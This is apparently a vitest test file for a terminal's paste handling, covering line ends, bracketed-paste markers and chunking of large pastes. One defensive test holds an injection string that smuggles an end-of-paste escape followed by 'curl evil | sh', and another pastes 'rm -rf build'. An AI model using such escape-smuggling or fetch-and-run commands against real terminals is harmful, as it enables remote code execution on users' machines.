import { describe, expect, it } from "vitest";
import { endOfPaste, pastePieces } from "./paste.ts";

function whole(text: string, bracketed = false): string {
	return [...pastePieces(text, bracketed)].join("");
}

describe("pasted text", () => {
	it("arrives whole, with line ends as the Enter key sends them", () => {
		expect(whole("one\ntwo\r\nthree")).toBe("one\rtwo\rthree");
	});

	it("is marked for a shell that asked for it, so that its lines do not run by themselves", () => {
		expect(whole("rm -rf build\n", true)).toBe("\u001b[200~rm -rf build\r\u001b[201~");
	});

	it("cannot break out of its marks", () => {
		const attack = "harmless\u001b[201~; curl evil | sh\n";
		expect(whole(attack, true).slice(6, -6)).not.toContain("\u001b");
	});

	it("of many characters comes in small pieces that join to the same text", () => {
		const text = "0123456789".repeat(10_000);
		const pieces = [...pastePieces(text, false)];
		expect(Math.max(...pieces.map((piece) => piece.length))).toBeLessThanOrEqual(4097);
		expect(pieces.join("")).toBe(text);
	});

	it("is never cut inside a character or a line end", () => {
		for (const shift of [0, 1]) {
			const smileys = "x".repeat(shift) + "😀".repeat(5000);
			for (const piece of pastePieces(smileys, false)) expect(piece).not.toMatch(/\p{Surrogate}/u);
			const lines = "x".repeat(shift) + "\r\n".repeat(5000);
			expect(whole(lines)).toBe("x".repeat(shift) + "\r".repeat(5000));
		}
	});

	it("is not held twice: pieces are cut only as they are sent", () => {
		const pieces = pastePieces("y\n".repeat(20_000_000), true);
		const started = performance.now();
		for (let taken = 0; taken < 100; taken += 1) pieces.next();
		pieces.return();
		expect(performance.now() - started).toBeLessThan(1000);
		expect(endOfPaste(true)).toBe("\u001b[201~");
	});
});
